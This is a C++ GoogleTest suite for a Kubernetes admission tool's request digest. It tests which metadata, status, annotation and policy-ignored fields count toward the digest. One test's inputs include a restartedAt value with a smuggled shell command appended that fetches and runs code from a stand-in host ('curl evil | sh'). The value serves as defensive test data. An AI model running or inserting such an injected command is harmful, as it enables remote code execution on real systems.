#include "action/left_out.hpp"

#include <gtest/gtest.h>

#include "unit/action/support.hpp"

// What is left out of the digest, and, beside each, what looks like it and is not.
namespace sallyport::action {
namespace {

using json::Value;
using testing::create;
using testing::describe;
using testing::digest;
using testing::kDeployments;
using testing::kPods;
using testing::kWidgets;
using testing::parse;
using testing::update;

std::string quote(std::string_view text) {
  return json::write(Value(text));
}

// --- bookkeeping

class Bookkeeping : public ::testing::TestWithParam<std::pair<std::string_view, std::string_view>> {};

TEST_P(Bookkeeping, OfTheObjectItselfDoesNotCount) {
  const auto& [key, value] = GetParam();
  auto request =
      create(kWidgets, R"({"apiVersion":"example.com/v1","kind":"Widget","metadata":{"name":"w"},"spec":{"a":1}})");
  const auto without = digest(request);
  request.object.find_mutable("metadata")->set(key, parse(value));
  EXPECT_EQ(digest(request), without);
}

TEST_P(Bookkeeping, OfWhatItHoldsCounts) {
  const auto& [key, value] = GetParam();
  auto request = create(kWidgets, R"({"metadata":{"name":"w"},"spec":{"template":{"metadata":{}}}})");
  const auto without = digest(request);
  request.object.find_mutable("spec")->find_mutable("template")->find_mutable("metadata")->set(key, parse(value));
  EXPECT_NE(digest(request), without);
}

INSTANTIATE_TEST_SUITE_P(Table, Bookkeeping,
                         ::testing::Values(std::pair("resourceVersion", R"("17")"), std::pair("generation", "3"),
                                           std::pair("creationTimestamp", R"("2026-01-01T00:00:00Z")"),
                                           std::pair("selfLink", R"("/x")"), std::pair("uid", R"("u1")")));

TEST(LeftOut, UidOfWhatASubresourceActsOnCounts) {
  auto request = testing::recorded("token_request");
  const auto first = digest(request);
  request.object.find_mutable("metadata")->set("uid", "another account of that name");
  EXPECT_NE(digest(request), first);
}

TEST(LeftOut, DeletionTimestampCounts) {
  const auto before = R"({"metadata":{"name":"w"}})";
  EXPECT_NE(digest(update(kWidgets, before, R"({"metadata":{"name":"w","deletionTimestamp":"2026-01-01T00:00:00Z"}})")),
            digest(update(kWidgets, before, before)));
}

// --- status: the API server has dropped it by now where the kind does so

std::string status_digest(const model::Resource& resource, std::string_view status) {
  return digest(create(resource, R"({"metadata":{"name":"w"},"spec":{},"status":)" + std::string(status) + "}"));
}

TEST(LeftOut, StatusCounts) {
  EXPECT_NE(status_digest(kWidgets, R"({"phase":"A"})"), status_digest(kWidgets, R"({"phase":"B"})"));
  EXPECT_NE(status_digest({"", "v1", "nodes", ""}, R"({"capacity":{"pods":"1"}})"),
            status_digest({"", "v1", "nodes", ""}, "{}"));
  EXPECT_EQ(status_digest(kWidgets, "{}"), digest(create(kWidgets, R"({"metadata":{"name":"w"},"spec":{}})")));
}

TEST(LeftOut, StatusThatTheServerGivesANewObject) {
  const model::Resource volumes{"", "v1", "persistentvolumes", ""};
  const auto pending = [](std::string_view time) {
    return R"({"phase":"Pending","lastPhaseTransitionTime":)" + quote(time) + "}";
  };
  EXPECT_EQ(status_digest(volumes, pending("2026-01-01T00:00:00Z")),
            status_digest(volumes, pending("2026-01-02T00:00:00Z")));
  EXPECT_NE(status_digest(volumes, pending("x")), status_digest(volumes, pending("y")));
  EXPECT_EQ(status_digest(kPods, R"({"phase":"Pending","qosClass":"Burstable"})"), status_digest(kPods, "{}"));
  EXPECT_NE(status_digest(kPods, R"({"phase":"Pending","qosClass":"Burstable","message":"m"})"),
            status_digest(kPods, "{}"));
  EXPECT_NE(status_digest(kWidgets, R"({"phase":"Pending"})"), status_digest(kWidgets, "{}"));
}

// --- the agent's reason

TEST(Reason, DoesNotCountWhetherThereIsOneOrNot) {
  const std::string before = R"({"metadata":{"name":"d"},"spec":{"replicas":1}})";
  const auto with = [&before](std::string_view metadata) {
    return digest(update(kDeployments, before,
                         R"({"metadata":{"name":"d")" + std::string(metadata) + R"(},"spec":{"replicas":2}})"));
  };
  EXPECT_EQ(with(R"(,"annotations":{"sallyport.dev/reason":"a"})"), with(""));
  EXPECT_EQ(with(R"(,"annotations":{"sallyport.dev/reason":"a"})"),
            with(R"(,"annotations":{"sallyport.dev/reason":"b"})"));
  EXPECT_NE(with(R"(,"annotations":{"sallyport.dev/reason":"a","x":"y"})"), with(""));
}

TEST(Reason, InAPodTemplateCounts) {
  const auto with = [](std::string_view reason) {
    return digest(
        create(kDeployments,
               R"({"metadata":{"name":"d"},"spec":{"template":{"metadata":{"annotations":{"sallyport.dev/reason":)" +
                   quote(reason) + "}}}}}"));
  };
  EXPECT_NE(with("a"), with("b"));
}

TEST(Reason, ThatAPodCanReadCounts) {
  const auto with = [](model::Resource resource, std::string_view reason) {
    return digest(create(std::move(resource),
                         R"({"metadata":{"name":"p","annotations":{"sallyport.dev/reason":)" + quote(reason) + "}}}"));
  };
  for (const auto& resource : {kPods, model::Resource{"", "v1", "pods", "binding"}, {"", "v1", "bindings", ""}})
    EXPECT_NE(with(resource, "a"), with(resource, "b")) << to_string(resource);
}

TEST(Reason, IsTheAgentsOnlyIfThisWriteSetsIt) {
  const auto reason = [](std::string_view before, std::string_view after) {
    const auto with = [](std::string_view text) {
      return R"({"metadata":{"name":"d","annotations":{"sallyport.dev/reason":)" + quote(text) + "}}}";
    };
    return describe(update(kDeployments, with(before), with(after))).reason;
  };
  EXPECT_EQ(reason("a person's", "a person's"), "");
  EXPECT_EQ(reason("a person's", "the agent's"), "the agent's");
}

// --- built-in ignored fields

std::string restarted(std::string_view at) {
  if (at.empty()) return R"({"metadata":{"name":"d"},"spec":{"template":{"metadata":{}}}})";
  return R"({"metadata":{"name":"d"},"spec":{"template":{"metadata":{"annotations":{"kubectl.kubernetes.io/restartedAt":)" +
         quote(at) + "}}}}}";
}
std::string restart(std::string_view before, std::string_view after) {
  return digest(update(kDeployments, restarted(before), restarted(after)));
}

TEST(RestartedAt, ATimeIsAsGoodAsAnother) {
  const std::string_view first = "2026-11-21T05:33:53Z";
  EXPECT_EQ(restart("", first), restart("", "2026-11-21T07:34:00+02:00"));
  EXPECT_EQ(restart(first, "2026-11-21T05:40:00Z"), restart(first, "2026-11-21T05:41:00Z"));
}

TEST(RestartedAt, ThatItChangesCounts) {
  const std::string_view first = "2026-11-21T05:33:53Z";
  EXPECT_NE(restart(first, "2026-11-21T05:40:00Z"), restart(first, first));
}

TEST(RestartedAt, OtherTextCounts) {
  for (const auto* payload : {"now", "2026-11-21T05:33:53Z; curl evil | sh", "2026-13-41T05:33:53Z",
                              "2026-11-21T05:33:53.0000000000000000000000000000000000000001Z", ""})
    EXPECT_NE(digest(update(kDeployments, restarted(""),
                            restarted("x").replace(restarted("x").find("\"x\""), 3, quote(payload)))),
              restart("", "2026-11-21T05:33:53Z"))
        << payload;
  EXPECT_NE(restart("", "payload one"), restart("", "payload two"));
}

TEST(RestartedAt, ItsRemovalCounts) {
  EXPECT_NE(restart("2026-11-21T05:33:53Z", ""), restart("2026-11-21T05:33:53Z", "2026-11-21T05:40:00Z"));
}

TEST(RestartedAt, OnTheObjectItselfOrOfAnotherKindCounts) {
  const auto own = [](std::string_view at) {
    return digest(
        update(kDeployments, R"({"metadata":{"name":"d"}})",
               R"({"metadata":{"name":"d","annotations":{"kubectl.kubernetes.io/restartedAt":)" + quote(at) + "}}}"));
  };
  EXPECT_NE(own("2026-11-21T05:33:53Z"), own("2026-11-21T05:40:00Z"));
  EXPECT_NE(digest(update(kWidgets, restarted(""), restarted("2026-11-21T05:33:53Z"))),
            digest(update(kWidgets, restarted(""), restarted("2026-11-21T05:40:00Z"))));
}

// A Deployment with kubectl's annotation, which holds `applied`.
std::string with_applied(std::string_view applied, std::string_view spec = "{}") {
  return R"({"apiVersion":"apps/v1","kind":"Deployment","metadata":{"name":"d","namespace":"shop","annotations":)"
         R"({"kubectl.kubernetes.io/last-applied-configuration":)" +
         quote(applied) + R"(}},"spec":)" + std::string(spec) + "}";
}
std::string same_object(std::string_view spec, std::string_view name = "d", std::string_view ns = "shop",
                        std::string_view kind = "Deployment", std::string_view version = "apps/v1") {
  return R"({"apiVersion":)" + quote(version) + R"(,"kind":)" + quote(kind) + R"(,"metadata":{"name":)" + quote(name) +
         R"(,"namespace":)" + quote(ns) + R"(},"spec":)" + std::string(spec) + "}";
}

// Somebody else has set `paused`; the write scales from 1 to 2.
constexpr std::string_view kOne = R"({"replicas":1,"paused":true,"list":[{"a":1}]})";
constexpr std::string_view kTwo = R"({"replicas":2,"paused":true,"list":[{"a":1}]})";
std::string scale_with(std::string_view applied) {
  return digest(update(kDeployments, with_applied(same_object(R"({"replicas":1,"list":[{"a":1}]})"), kOne),
                       with_applied(applied, kTwo)));
}

TEST(LastApplied, ThatRepeatsTheWriteDoesNotCount) {
  const auto honest = scale_with(same_object(R"({"replicas":2,"list":[{"a":1}]})"));
  EXPECT_EQ(honest, scale_with(same_object(R"({"list":[{"a":1}],"replicas":2})") + "\n"));
}

TEST(LastApplied, OfAnotherObjectOrNoJsonCounts) {
  const auto genuine = scale_with(same_object(R"({"replicas":2,"list":[{"a":1}]})"));
  const auto spec = R"({"replicas":2,"list":[{"a":1}]})";
  for (const auto& payload :
       {same_object(spec, "other"), same_object(spec, "d", "elsewhere"), same_object(spec, "d", "shop", "DaemonSet"),
        same_object(spec, "d", "shop", "Deployment", "apps/v1beta1"), std::string("payload"), std::string(""),
        std::string("[]"), same_object(spec) + "trailing", std::string(R"({"metadata":{}})")})
    EXPECT_NE(scale_with(payload), genuine) << payload;
  EXPECT_NE(scale_with("payload one"), scale_with("payload two"));
}

TEST(LastApplied, ThatListsMoreOrLessThanTheWriteCounts) {
  const auto genuine = scale_with(same_object(R"({"replicas":2,"list":[{"a":1}]})"));
  for (const auto* spec : {
           R"({"replicas":2,"list":[{"a":1}],"paused":true})",  // what somebody else has set
           R"({"replicas":2,"list":[{"a":1}],"paused":null})",  // the same in disguise
           R"({"replicas":2,"list":[{"a":1}],"later":1})",      // what nobody has set yet
           R"({"replicas":3,"list":[{"a":1}]})",                // another value than the object's
           R"({"replicas":2,"list":[{"a":1},{"a":2}]})",        // an element too many
           R"({"replicas":2,"list":[]})",                       // one too few
           R"({"list":[{"a":1}]})",                             // less than before, though the object still has it
       })
    EXPECT_NE(scale_with(same_object(spec)), genuine) << spec;
}

TEST(LastApplied, TheFirstOneCounts) {
  const auto first = [](std::string_view applied) {
    return digest(update(kDeployments, R"({"apiVersion":"apps/v1","kind":"Deployment","metadata":{"name":"d"}})",
                         with_applied(applied)));
  };
  EXPECT_NE(first(same_object("{}")), first(same_object(R"({"a":null})")));
}

TEST(LastApplied, OfACreateCounts) {
  const auto creation = [](std::string_view spec) {
    auto request = create(kDeployments, with_applied(same_object(spec)));
    return digest(request);
  };
  EXPECT_NE(creation(R"({"replicas":1})"), creation(R"({"replicas":2})"));
}

TEST(LastApplied, CountsWherePoliciesDoNotIgnoreIt) {
  auto context = testing::context();
  context.ignore_builtin = false;
  const auto strict = [&context](std::string_view spec) {
    return digest(update(kDeployments, with_applied("{}", kOne), with_applied(same_object(spec), kOne)), context);
  };
  EXPECT_NE(strict(R"({"replicas":1})"), strict(R"({"replicas":2})"));
}

// --- a policy's ignored fields

std::string ignoring(std::string_view before, std::string_view after, std::initializer_list<std::string_view> fields) {
  auto context = testing::context();
  context.ignored_fields = testing::patterns(fields);
  return digest(update(kWidgets, before, after), context);
}

TEST(IgnoredFields, WhatTheyHoldDoesNotCount) {
  const auto w = [](std::string_view note) {
    return R"({"metadata":{"name":"w","annotations":{"example.com/note":)" + quote(note) + R"(}},"spec":{"a":1}})";
  };
  const auto field = "metadata.annotations['example.com/note']";
  EXPECT_EQ(ignoring(w("old"), w("one"), {field}), ignoring(w("old"), w("two"), {field}));
  EXPECT_EQ(ignoring(R"({"metadata":{"name":"w"}})", w("one"), {field, "spec"}),
            ignoring(R"({"metadata":{"name":"w"}})", w("two"), {field, "spec"}));
  EXPECT_NE(ignoring(w("old"), w("one"), {}), ignoring(w("old"), w("two"), {}));
}

TEST(IgnoredFields, WhichOfThemChangedCounts) {
  const auto before = R"({"metadata":{"name":"w"},"spec":{"a":1,"b":1}})";
  EXPECT_NE(ignoring(before, R"({"metadata":{"name":"w"},"spec":{"a":2,"b":1}})", {"spec.a", "spec.b"}),
            ignoring(before, R"({"metadata":{"name":"w"},"spec":{"a":1,"b":2}})", {"spec.a", "spec.b"}));
}

TEST(IgnoredFields, NeighboursCount) {
  const auto before = R"({"metadata":{"name":"w"},"spec":{"a":1,"b":1}})";
  EXPECT_NE(ignoring(before, R"({"metadata":{"name":"w"},"spec":{"a":2,"b":2}})", {"spec.a"}),
            ignoring(before, R"({"metadata":{"name":"w"},"spec":{"a":2,"b":3}})", {"spec.a"}));
}

TEST(IgnoredFields, InsideLists) {
  const auto w = [](int x, int y) {
    return R"({"metadata":{"name":"w"},"items":[{"x":)" + std::to_string(x) + R"(,"y":)" + std::to_string(y) + "}]}";
  };
  EXPECT_EQ(ignoring(w(1, 1), w(2, 2), {"items[*].x"}), ignoring(w(1, 1), w(3, 2), {"items[*].x"}));
  EXPECT_NE(ignoring(w(1, 1), w(2, 2), {"items[*].x"}), ignoring(w(1, 1), w(2, 3), {"items[*].x"}));
}

TEST(IgnoredFields, WholeElementsKeepTheOthersPlaces) {
  const auto w = [](std::string_view items) {
    return R"({"metadata":{"name":"w"},"items":)" + std::string(items) + "}";
  };
  EXPECT_EQ(ignoring(w("[1,2]"), w("[7,3]"), {"items[0]"}), ignoring(w("[1,2]"), w("[8,3]"), {"items[0]"}));
  EXPECT_NE(ignoring(w("[1,2]"), w("[1,3]"), {"items[0]"}), ignoring(w("[1,2]"), w("[1,4]"), {"items[0]"}));
}

TEST(IgnoredFields, OneWithinAnother) {
  const auto w = [](int x) { return R"({"metadata":{"name":"w"},"spec":{"a":{"x":)" + std::to_string(x) + "}}}"; };
  EXPECT_EQ(ignoring(w(1), w(2), {"spec.a", "spec.a.x"}), ignoring(w(1), w(3), {"spec.a", "spec.a.x"}));
}

TEST(IgnoredFields, ArePartlyPresentInACreate) {
  auto context = testing::context();
  context.ignored_fields = testing::patterns({"spec.a"});
  const auto creation = [&context](std::string_view spec) {
    return digest(create(kWidgets, R"({"metadata":{"name":"w"},"spec":)" + std::string(spec) + "}"), context);
  };
  EXPECT_EQ(creation(R"({"a":1,"b":1})"), creation(R"({"a":2,"b":1})"));
  EXPECT_NE(creation(R"({"a":1,"b":1})"), creation(R"({"b":1})"));
}

TEST(IgnoredFields, PeopleSeeThem) {
  const auto before = same_object(R"({"replicas":1})");
  const auto after = same_object(R"({"replicas":2})");
  const auto described = describe(update(kDeployments, with_applied(before, kOne), with_applied(after, kTwo)));
  ASSERT_EQ(described.record.changes.size(), 2u);
  EXPECT_TRUE(described.record.changes[1].ignored);
  EXPECT_EQ(described.record.changes[1].from, before);
  EXPECT_EQ(described.record.changes[1].to, after);
}

}  // namespace
}  // namespace sallyport::action
